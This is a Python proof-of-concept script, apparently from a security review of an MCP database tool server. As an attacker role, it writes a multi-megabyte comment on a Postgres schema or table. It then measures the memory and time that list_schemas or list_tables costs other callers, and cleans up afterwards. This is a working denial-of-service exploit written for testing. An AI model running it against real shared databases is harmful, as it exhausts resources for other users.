"""attack4 / target 5 (related): list_schemas, the tool every agent calls first, reads every
schema's comment whole. The attacker owns schema atk (or any schema), so COMMENT ON SCHEMA
with N MB costs every caller of list_schemas that much transfer, decoding and memory.
Run: PYTHONPATH=tests:security-review uv run python security-review/attack4/schema_comment.py [MB] [schema|table]\n(table: the same through list_tables of public, with a table of the attacker's there)
"""
import asyncio
import json
import resource
import sys
import time

import asyncpg
from common import as_role, tool
from mcpclient import connect


def rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


async def main(mb: int, what: str) -> int:
    atk = await asyncpg.connect(as_role("attacker"))
    if what == "table":  # list_tables(public): a table of the attacker's in public, commented
        await atk.execute("DROP TABLE IF EXISTS public.zz_note; CREATE TABLE public.zz_note (a int)")
        target, call = "TABLE public.zz_note", ("list_tables", {"schema_name": "public"})
    else:
        target, call = "SCHEMA atk", ("list_schemas", {})
    await atk.execute(f"DO $$BEGIN EXECUTE format('COMMENT ON {target} IS %L', repeat('B', {mb} * 1024 * 1024)); END$$")
    async with connect(as_role("reader")) as cl:
        before = rss_mb()
        t = time.perf_counter()
        ok, body = await tool(cl, call[0], **call[1])
        took = time.perf_counter() - t
        text = json.dumps(body)
        print(f"{target} comment of {mb} MB: {call[0]} ok={ok}, answer {len(text)} characters in "
              f"{took:.1f} s; peak RSS {before:.0f} -> {rss_mb():.0f} MB; {text[:200]}")
    await atk.execute("COMMENT ON SCHEMA atk IS NULL; DROP TABLE IF EXISTS public.zz_note")
    await atk.close()
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main(int(sys.argv[1]) if len(sys.argv) > 1 else 200, sys.argv[2] if len(sys.argv) > 2 else "schema")))
